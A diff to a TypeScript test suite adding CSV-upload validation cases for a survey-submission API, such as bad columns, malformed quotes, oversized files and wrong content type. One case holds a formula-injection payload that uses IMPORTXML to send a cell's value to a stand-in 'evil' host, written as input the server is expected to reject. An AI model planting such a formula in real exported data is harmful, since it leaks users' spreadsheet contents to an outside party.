@@ -17,6 +17,13 @@ const svcIn = (over: Record<string, unknown>) => ({ code: '700001', name: { kk: 
 const userIn = (over: Record<string, unknown>) => ({ login: 'newuser', displayName: 'New user', password: 'long-enough-password', role: 'commission', ...over });
 const campIn = (over: Record<string, unknown>) => ({ code: 'bad-1', title: { kk: 'Науқан', ru: 'Кампания', en: 'Campaign' }, periodFrom: '2019-01-01', periodTo: '2019-12-31', editions: [E], bodies: ['MOJ'], ...over });
 
+const csv = (text: string, field = 'service_types', form = 'D1.satisfaction'): Req => ({
+  method: 'PUT',
+  url: `/api/campaigns/2/submissions/MOJ/${E}/${form}/csv/${field}`,
+  payload: text,
+  headers: { 'content-type': 'text/csv' },
+});
+
 interface Case {
   name: string;
   as?: string;
@@ -78,6 +85,18 @@ const CASES: Case[] = [
   { name: 'campaign id that is not a number', req: { method: 'PUT', url: `/api/campaigns/abc/submissions/MOJ/${E}/App1`, payload: { data: {} } }, field: 'params.campaignId', status: 400 },
   { name: 'body code with spaces', req: { method: 'PUT', url: `/api/campaigns/2/submissions/M%20O%20J/${E}/App1`, payload: { data: {} } }, field: 'params.bodyId', status: 400 },
   { name: 'return without saying what to fix', as: 'evaluator', req: { method: 'POST', url: `/api/campaigns/1/submissions/MOJ/${E}/App1/return`, payload: { note: '' } }, field: 'body.note', status: 400 },
+  // CSV tables
+  { name: 'CSV with an unknown column', req: csv('service,satisfaction,bonus\nСправка,4,1\n'), field: 'service_types.bonus' },
+  { name: 'CSV with a column twice', req: csv('service,service\nСправка,Лицензия\n'), field: 'service_types.service' },
+  { name: 'CSV with an unbalanced quote', req: csv('service,satisfaction\n"Справка,4\n'), field: 'service_types' },
+  { name: 'CSV with more values than columns', req: csv('service,satisfaction\nСправка,4,5\n'), field: 'service_types', row: 1 },
+  { name: 'CSV word for a number', req: csv('service;satisfaction\nСправка;хорошо\n'), field: 'service_types.satisfaction', row: 1 },
+  { name: 'CSV formula injection', req: csv('service,satisfaction\n"=IMPORTXML(CONCAT(""http://evil/?"",A1),""//a"")",4\n'), field: 'service_types.service', row: 1 },
+  { name: 'CSV duplicate rows', req: csv('service,satisfaction\nСправка,4\nСправка,4\n'), field: 'service_types', row: 2 },
+  { name: 'CSV of 5001 rows', req: csv('service,satisfaction\n' + Array.from({ length: 5001 }, (_, i) => `s${i},4`).join('\n')), field: 'service_types' },
+  { name: 'CSV for a field that is not a table', req: csv('a\n1\n', 'reference_mean'), field: 'field' },
+  { name: 'CSV that is empty', req: csv(''), field: 'service_types' },
+  { name: 'CSV sent as JSON', req: { method: 'PUT', url: `/api/campaigns/2/submissions/MOJ/${E}/D1.satisfaction/csv/service_types`, payload: { rows: [] } }, field: 'file' },
   // registries
   { name: 'body without a Kazakh name', as: 'admin', req: { method: 'POST', url: '/api/bodies', payload: bodyIn({ name: { ru: 'Новый', en: 'New' } }) }, field: 'body.name.kk', status: 400 },
   { name: 'body of an unknown level', as: 'admin', req: { method: 'POST', url: '/api/bodies', payload: bodyIn({ level: 'galaxy' }) }, field: 'body.level', status: 400 },
